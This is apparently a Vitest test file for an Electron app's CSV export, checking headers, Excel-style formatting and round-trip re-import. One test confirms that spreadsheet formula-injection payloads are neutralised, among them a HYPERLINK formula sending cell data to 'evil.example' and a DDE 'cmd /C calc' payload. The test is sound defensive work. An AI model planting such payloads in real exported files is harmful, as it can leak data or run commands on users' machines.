import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportCsv } from '../../../electron/backend/export/csv-export.ts';
import { runImport } from '../../../electron/backend/import/run-import.ts';
import { fixture, IMPORT_TIME, tempStore, type TempStore } from '../import/temp-store.ts';

let t: TempStore;
beforeEach(async () => {
  t = await tempStore();
  for (const file of ['windows-1252-semicolon.csv', 'formula-payloads.csv', 'utf8-no-bom.csv']) {
    await runImport(t.store, { file: fixture(file), as: 'nodes', now: IMPORT_TIME });
  }
  await runImport(t.store, {
    file: fixture('relationships-de.csv'),
    as: 'relationships',
    now: IMPORT_TIME,
  });
  await runImport(t.store, {
    file: fixture('interactions.csv'),
    as: 'interactions',
    now: IMPORT_TIME,
  });
});
afterEach(async () => t.close());

describe('CSV export', () => {
  it('writes canonical headers and neutralises formulas', async () => {
    const dir = join(t.dir, 'out');
    const result = await exportCsv(t.store, { dir });
    expect(result.counts).toEqual({ nodes: 10, relationships: 7, interactions: 2 });
    const nodes = readFileSync(result.files.nodes, 'utf8');
    expect(nodes.split('\r\n')[0]).toBe(
      'id,kind,name,title,email,phone,city,country,tier,key_account,customer_value,potential,stance,decision_role,influencer_type,consent,consent_date,consent_channels,tags,notes,source,prop:Stärke des Kontakts',
    );
    expect(nodes).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Klick"")"`);
    expect(nodes).toContain(`'+49 89 1234567`);
    expect(nodes).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(nodes).not.toMatch(/[,\n]=HYPERLINK/);
    expect(readFileSync(result.files.relationships, 'utf8').split('\r\n')[0]).toBe(
      'source,target,type,strength,sentiment,since,last_contact,origin,notes',
    );
  });

  it('for Excel: a UTF-8 byte-order mark, semicolons and decimal commas', async () => {
    const result = await exportCsv(t.store, {
      dir: join(t.dir, 'excel'),
      bom: true,
      delimiter: ';',
    });
    const bytes = readFileSync(result.files.nodes);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text).toContain('org-baeckerei;Customer;Bäckerei Größl KG;');
    expect(text).toContain(';1250000,5;');
    expect(readFileSync(result.files.relationships, 'utf8')).toContain(
      'p-mueller;p-strasser;KNOWS;0,7;',
    );
  });

  it.each([
    [{}, 'comma'],
    [{ bom: true, delimiter: ';' as const }, 'Excel'],
    [{ delimiter: '\t' as const }, 'tab'],
  ])('an export (%j) imported into the same store changes nothing', async (options, name) => {
    const dir = join(t.dir, name);
    const { files } = await exportCsv(t.store, { dir, ...options });
    const later = new Date('2026-05-01T00:00:00Z');
    const runs = [
      await runImport(t.store, { file: files.nodes, as: 'nodes', now: later }),
      await runImport(t.store, { file: files.relationships, as: 'relationships', now: later }),
      await runImport(t.store, { file: files.interactions, as: 'interactions', now: later }),
    ];
    for (const summary of runs) {
      expect(summary).toMatchObject({ created: 0, updated: 0, merged: 0, errors: [] });
      expect(summary.unchanged).toBe(summary.rows);
    }
  });
});
